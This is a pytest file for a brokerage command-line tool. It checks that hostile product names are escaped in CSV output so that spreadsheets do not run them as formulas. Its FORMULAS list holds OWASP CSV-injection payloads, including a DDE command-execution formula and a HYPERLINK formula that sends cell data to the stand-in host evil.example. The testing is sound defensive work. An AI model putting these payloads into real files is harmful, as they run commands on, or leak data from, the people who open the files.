"""What the command line writes and reads, when the text in it is hostile (issue 21).

Server text (a name, a message) and file text (a CSV's header) reach a spreadsheet, a terminal
and a log; input files reach memory. Each test runs the real CLI against the simulator, or
feeds a pure function a table of cases.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from kis_async import render
from kis_async.simulator import Holding, Simulator

from . import test_cli
from .test_cli import Cli

cli, creds, home = test_cli.cli, test_cli.creds, test_cli.home
"""tests/test_cli.py's fixtures: the CLI forked with HOME in tmp_path, the simulator's creds."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""prdt_names a spreadsheet would run as formulas (OWASP's CSV Injection examples)."""


# -- CSV: no cell runs as a formula ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("삼성전자", "삼성전자"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1200", "'-1200"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\r=1", "'\\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_csv_cell(text: str, cell: str) -> None:
    assert render.csv_cell(text) == cell


@pytest.mark.parametrize("name", FORMULAS)
async def test_csv_names_never_start_a_formula_and_numbers_stay_numbers(
    sim: Simulator, creds: dict[str, str], cli: Cli, name: str
) -> None:
    """A loss (avg price over the price now) makes the signed amounts negative: those are the
    CLI's own numbers and stay numbers."""
    sim.portfolio["005930"] = Holding(name, 10, Decimal(1200), Decimal(1000))
    code, out, err = await cli("check", "005930", "--csv", env=creds)
    assert code == 0, err
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["prdt_name"].startswith("'"), row
    assert row["prdt_name"][1] in "=+-@\\"
    assert row["evlu_pfls_amt"] == "-2000"
    assert row["evlu_pfls_rt"] == "-16.67"
